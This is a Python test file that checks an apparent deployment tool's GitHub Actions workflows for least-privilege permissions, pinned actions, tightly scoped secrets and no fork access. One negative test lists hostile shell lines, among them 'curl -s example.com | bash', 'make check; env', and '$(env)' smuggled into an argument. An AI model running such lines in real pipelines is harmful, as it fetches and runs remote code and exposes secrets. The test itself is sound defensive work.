"""The workflow files are thin over commands that exist, and nothing in them may do more than it has to."""

import re
from typing import Any

import pytest

from infra.platform.foundation.aws.pipelines import LONGEST_JOB
from infra.shared.cluster import ONLY_LOOKS
from slipway.notifications.announcing import RUN, WEBHOOK
from slipway.pipeline import comment, drift
from slipway.pipeline.checkout import MADE_FROM, RECORDED
from slipway.promotion.environment import FROM
from slipway.supply import keys
from tests.github import cli
from tests.github.workflows import GITHUB, PREPARE, WORKFLOWS, Job, Object, commands, jobs, lines, read, steps, workflow

# What each job may beside reading the code, and why is said beside it in the file.
RIGHTS = {
    "pull-request/preview": {"id-token"},
    "pull-request/comment": {"pull-requests"},
    "release/staging": {"id-token"},
    "release/production": {"id-token"},
    "release/record": {"contents"},
    "release/revert-staging": {"id-token", "contents", "pull-requests"},
    "release/revert-production": {"id-token", "contents", "pull-requests"},
    "revert/revert": {"id-token", "contents", "pull-requests"},
    "rollback/rollback": {"id-token"},
    "rollback/record": {"contents"},
    "rollback/revert": {"id-token", "contents", "pull-requests"},
    "drift/look": {"id-token"},
    "drift/issue": {"issues"},
}
SECRETS = {"SLIPWAY_WEBHOOK", "SLIPWAY_SIGNING_KEY", "SLIPWAY_SIGNING_PASSWORD"}
# What the shell may do beside calling us: sign in, and say it to GitHub.
OTHERS = (
    "gh auth setup-git",
    "aws ecr get-login-password | docker login",
    "aws eks update-kubeconfig ",
    ".github/upsert ",
)


def runs() -> list[str]:
    return [step["run"] for step in steps() if "run" in step]


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda path: path.stem)
def test_every_call_is_of_a_command_that_is_there(path: Any) -> None:
    scripts = [step["run"] for job in read(path)["jobs"].values() for step in job.get("steps", []) if "run" in step]
    calls = [words for script in scripts for words in commands(script)]
    assert calls
    for words in calls:
        cli.check(words)


def calls_a_command_alone(line: str) -> bool:
    begun = next((one for one in OTHERS if line.startswith(one)), "")
    # By each of these the shell would run something else, too.
    return bool(begun or list(commands(line))) and not re.search(r"[|;&<(`]", line.removeprefix(begun))


def test_a_step_does_nothing_but_call_a_command() -> None:
    for script in runs():
        for line in lines(script):
            assert calls_a_command_alone(line), line


@pytest.mark.parametrize(
    "line",
    [
        "curl -s example.com | bash && make check",
        "make check && curl -s example.com",
        "make check | tee log",
        "make check; env",
        ".venv/bin/slipway preview -s $(env)",
        ".venv/bin/slipway preview -s `env`",
        "env make check",
        "gh auth setup-git; env",
        "bin/slipway preview",
    ],
)
def test_anything_beside_it_would_be_found(line: str) -> None:
    assert not calls_a_command_alone(line)


def test_actions_are_pinned_by_their_commit_with_its_version_beside_it() -> None:
    used = [line for path in [*WORKFLOWS, PREPARE] for line in path.read_text().splitlines() if "uses: " in line]
    others = [line for line in used if "uses: ./" not in line]
    assert len(others) > 15
    for line in others:
        assert re.search(r"uses: [\w-]+/[\w-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+", line), line
    versions = {re.sub(r",.*", "", line.partition("uses: ")[2]) for line in others}
    names = [one.partition("@")[0] for one in versions]
    assert sorted(names) == sorted(set(names)), "one action in two versions"


def test_the_cli_is_the_sdk_s() -> None:
    from importlib.metadata import version

    [step] = [one for one in read(PREPARE)["runs"]["steps"] if "pulumi/actions" in one.get("uses", "")]
    assert step["with"] == {"pulumi-version": version("pulumi")}  # and no command, so it only installs the CLI


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda path: path.stem)
def test_nothing_is_allowed_to_a_workflow_as_a_whole(path: Any) -> None:
    assert read(path)["permissions"] == {}


@pytest.mark.parametrize("job", jobs(), ids=str)
def test_a_job_may_what_it_has_to_and_no_more(job: Job) -> None:
    rights: dict[str, str] = job.content["permissions"]
    assert set(rights) - {"contents"} == RIGHTS.get(str(job), set()) - {"contents"}
    assert rights["contents"] == ("write" if "contents" in RIGHTS.get(str(job), set()) else "read")
    assert job.content.get("uses") or job.content["timeout-minutes"] <= LONGEST_JOB // 60


def test_who_deploys_writes_nothing_to_the_repository() -> None:
    for job in jobs():
        rights = job.content["permissions"]
        if job.content.get("environment") in ("staging", "production") or "inputs.stack" in str(
            job.content.get("environment", "")
        ):
            assert "write" not in {key: value for key, value in rights.items() if key != "id-token"}.values()


@pytest.mark.parametrize("job", [one for one in jobs() if one.workflow == "pull-request"], ids=str)
def test_a_fork_sees_no_secret_and_signs_in_nowhere(job: Job) -> None:
    assert "secrets." not in str(job.content)
    if set(job.content["permissions"]) != {"contents"}:
        ours = "github.event.pull_request.head.repo.full_name == github.repository"
        needs = job.content.get("needs")
        guarded = job if not needs else next(one for one in jobs() if str(one) == f"pull-request/{needs}")
        assert ours in guarded.content["if"]
        assert not needs or "needs.preview.result != 'skipped'" in job.content["if"]


def test_no_workflow_runs_for_a_fork_with_rights() -> None:
    for path in WORKFLOWS:
        on: Any = read(path)[True]  # pyright: ignore[reportArgumentType] - YAML takes `on` for true
        assert not {"pull_request_target", "workflow_run", "issue_comment"} & set([on] if isinstance(on, str) else on)


def test_secrets_come_by_variables_and_only_to_the_step_that_needs_them() -> None:
    for path in WORKFLOWS:
        for name in re.findall(r"secrets\.(\w+)", path.read_text()):
            assert name in SECRETS
    for step in steps():
        assert "secrets." not in step.get("run", "")
    for job in jobs():
        assert "secrets." not in str(job.content.get("env", {})), job
    for path in WORKFLOWS:
        assert "secrets." not in str(read(path).get("env", {})), path
    assert {keys.SIGNING, keys.PASSWORD, WEBHOOK} == SECRETS


def test_no_expression_stands_in_a_script() -> None:
    # What a title, a branch or an input says would be run.
    assert not [script for script in runs() if "${{" in script]


@pytest.mark.parametrize("step", [one for one in steps() if "actions/checkout" in one.get("uses", "")], ids=str)
def test_a_checkout_leaves_no_token_behind(step: Object) -> None:
    assert step["with"]["persist-credentials"] is False


def test_one_run_at_a_time_for_each_stack() -> None:
    release = workflow("release")["jobs"]
    assert release["staging"]["concurrency"] == {"group": "stack-staging"}
    assert release["production"]["concurrency"] == {"group": "stack-prod"}
    # A way back waits for nobody: it ends the release that is under way.
    assert workflow("rollback")["concurrency"] == {"group": "rollback-${{ inputs.stack }}"}


def test_a_release_is_begun_by_what_it_is_made_from() -> None:
    on = workflow("release")[True]  # pyright: ignore[reportArgumentType] - YAML takes `on` for true
    assert [one.removesuffix("/**") for one in on["push"]["paths"]] == list(MADE_FROM)
    assert on["push"]["branches"] == ["main"]


def test_what_is_written_down_begins_no_release() -> None:
    # By another token than GitHub's own, the commit of `record` would begin the next one, and so on.
    assert f"!contains(github.event.head_commit.message, '{RECORDED}')" in workflow("release")["jobs"]["test"]["if"]


def test_a_release_goes_through_its_steps_in_this_order() -> None:
    found = [
        " ".join(words[:3] if words[0] == "slipway" else words)
        for name in ("test", "staging", "production", "record")
        for step in workflow("release")["jobs"][name]["steps"]
        for words in commands(step.get("run", ""))
    ]
    assert [one for one in found if one != "make tools"] == [
        "make check",
        "make unit",
        "slipway pipeline validate",
        "slipway pipeline check",
        "slipway pipeline validate",
        "slipway pipeline publish",
        "slipway pipeline release",
        "slipway pipeline smoke",
        "slipway pipeline attest",
        "slipway pipeline check",
        "slipway pipeline release",
        "slipway pipeline smoke",
        "slipway pipeline record",
    ]
    needs = {name: job.get("needs") for name, job in workflow("release")["jobs"].items()}
    assert (needs["staging"], needs["production"], needs["record"]) == ("test", "staging", "production")
    assert workflow("release")["jobs"]["production"]["environment"] == "production"


def test_what_serves_is_written_down_whatever_its_clients_are_told() -> None:
    for name, job, step in (("release", "production", "release"), ("rollback", "rollback", "rollback")):
        found = workflow(name)["jobs"]
        assert found[job]["outputs"] == {"serves": f"${{{{ steps.{step}.outcome }}}}"}
        upload = found[job]["steps"][-1]
        assert upload["with"]["name"].startswith("stack-")
        serves = f"needs.{job}.outputs.serves"
        # Of several models the first may serve when the second is aborted.
        ended, said = {
            "release": ("!= 'skipped'", f"({serves} == 'success' || {serves} == 'failure')"),
            "rollback": ("== 'success'", f"{serves} == 'success'"),
        }[name]
        assert upload["if"] == f"${{{{ !cancelled() && steps.{step}.outcome {ended} }}}}"
        assert found["record"]["if"] == f"${{{{ !cancelled() && {said} }}}}"
    assert workflow("rollback")["jobs"]["revert"]["if"] == "${{ !cancelled() && needs.record.result == 'success' }}"


def test_every_update_is_held_to_the_policies() -> None:
    for job in jobs():
        scripts = [words for step in job.steps for words in commands(step.get("run", ""))]
        if any({"preview", "release", "rollback"} & set(words[:3]) for words in scripts):
            assert job.content["env"]["PULUMI_OPTION_POLICY_PACK"] == "${{ github.workspace }}/policies", job


def test_who_only_looks_signs_in_at_clusters_as_who_they_are() -> None:
    for job in jobs():
        looks = any("PREVIEW_ROLE" in str(step.get("with", {}).get("role", "")) for step in job.steps)
        previews = any("preview" in words[:2] for step in job.steps for words in commands(step.get("run", "")))
        assert (ONLY_LOOKS in job.content.get("env", {})) is (looks and previews), job


def test_who_releases_has_the_cluster_of_the_stack() -> None:
    for job in jobs():
        for step in job.steps:
            given: Object = step.get("with", {})
            if "/prepare" in step.get("uses", "") and "PREVIEW_ROLE" not in given["role"]:
                assert given["cluster"] == given["region"].replace("_REGION", "_CLUSTER"), job


def test_variables_are_those_that_the_commands_read() -> None:
    text = (GITHUB / "workflows/release.yml").read_text()
    assert f"{RUN}: " in text
    assert re.findall(rf"({FROM}AWS_\w+):", text) == [
        "FROM_AWS_ACCESS_KEY_ID",
        "FROM_AWS_SECRET_ACCESS_KEY",
        "FROM_AWS_SESSION_TOKEN",
        "FROM_AWS_REGION",
    ]


def test_what_is_updated_is_found_by_its_first_line() -> None:
    # .github/upsert takes the first line of a file for what tells it from others.
    assert comment.comment([]).startswith(f"{comment.MARKER}\n")
    assert drift.issue([]).startswith(f"{drift.MARKER}\n")
    assert drift.TITLE in (GITHUB / "workflows/drift.yml").read_text()
